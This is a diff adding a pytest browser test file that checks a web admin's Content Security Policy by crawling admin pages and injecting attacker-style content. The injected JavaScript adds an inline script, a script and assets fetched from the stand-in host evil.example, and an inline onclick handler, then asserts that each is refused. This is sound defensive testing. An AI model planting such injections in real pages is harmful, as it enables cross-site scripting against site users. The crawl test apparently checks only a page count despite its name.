@@ -1,0 +1,76 @@
+"""Every page works under its Content Security Policy: the browser refuses nothing of ours, and all that is not."""
+
+from urllib.parse import urldefrag, urlsplit
+
+import pytest
+
+from tests.browser.conftest import DESK
+
+pytestmark = pytest.mark.acceptance
+
+# One page of each kind is enough: of an address, its numbers and names of streams are left out.
+MOST_PAGES = 60
+NO_PAGES = ("logout", "download", "jsi18n", "export", "/python/", "/schema/", ".json", ".py")
+# Puts what an attacker would into the page, and returns which rules of the policy refused it.
+SLIP_IN = """
+async () => {
+  const refused = [];
+  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
+  const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
+  add("script", { textContent: "window.ran = 1" });
+  add("script", { src: "https://evil.example/x.js" });
+  add("style", { textContent: "body { background: url(https://evil.example/x) }" });
+  add("img", { src: "https://evil.example/x.png" });
+  const button = document.createElement("button");
+  button.setAttribute("onclick", "window.ran = 2");
+  document.body.append(button);
+  button.click();
+  const until = Date.now() + 10_000;
+  while (refused.length < 5 && Date.now() < until) {
+    await new Promise((done) => setTimeout(done, 20));
+  }
+  return refused.sort();
+}
+"""
+
+
+def is_no_page(address):
+    return any(word in address for word in NO_PAGES)
+
+
+def kind(path):
+    return tuple("#" if any(mark.isdigit() for mark in part) else part for part in urlsplit(path).path.split("/"))
+
+
+def test_no_page_of_the_admin_breaks_its_policy(open_at, hub):
+    window = open_at(DESK)
+    waiting, seen = ["/admin/"], {kind("/admin/")}
+
+    while waiting and len(seen) - len(waiting) < MOST_PAGES:
+        window.open(waiting.pop())
+        for link in window.page.eval_on_selector_all("a[href]", "links => links.map(link => link.href)"):
+            address = urldefrag(link)[0].removeprefix(hub.url)
+            if address.startswith("/admin/") and not is_no_page(address) and kind(address) not in seen:
+                seen.add(kind(address))
+                waiting.append(address)
+
+    assert len(seen) > 25
+
+
+def test_the_page_of_the_api_shows_every_operation(open_at, hub):
+    window = open_at(DESK)
+
+    window.open("/docs")
+    window.page.get_by_text("/events/{stream}/validate").first.click()
+
+    window.page.get_by_role("button", name="Try it out").wait_for()
+
+
+def test_what_was_slipped_into_a_page_does_not_run(person, hub):
+    page = person.new_page()  # not a watched one: its browser is to complain
+    page.goto(f"{hub.url}/admin/")
+    refused = page.evaluate(SLIP_IN)
+
+    assert refused == ["img-src", "script-src-attr", "script-src-elem", "script-src-elem", "style-src-elem"]
+    assert page.evaluate("window.ran") is None
+    page.close()
